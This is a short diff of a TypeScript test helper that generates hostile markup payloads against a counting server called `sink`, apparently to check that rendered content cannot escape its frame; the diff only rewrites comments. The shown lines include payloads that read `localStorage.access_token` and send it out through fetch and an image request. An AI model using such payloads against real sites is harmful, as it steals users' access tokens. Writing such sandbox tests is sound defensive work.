@@ -1,11 +1,11 @@
-// Markup that wants out of its frame: to run, to read what the browser keeps, to ask a server for something, to lead away.
-// `sink` is the origin of a server that counts whoever comes.
+// Hostile markup that tries to escape its frame: to run scripts, read the browser's storage, send requests, or
+// navigate. `sink` is the origin of a server that counts connections.
 
 export function payloads(sink: string): readonly string[] {
   let count = 0;
-  /** Another address each time, so that no answer comes from a cache. */
+  /** A new URL each time, so that no response comes from a cache. */
   const at = (end = "") => `${sink}/${(count += 1)}${end}`;
-  // What a script would do, in ways that need no network and in ways that do.
+  // What a script would do, with and without the network.
   const thefts = () => [
     `fetch('${at()}?'+localStorage.access_token)`,
     `new Image().src='${at()}?'+localStorage.getItem('access_token')`,
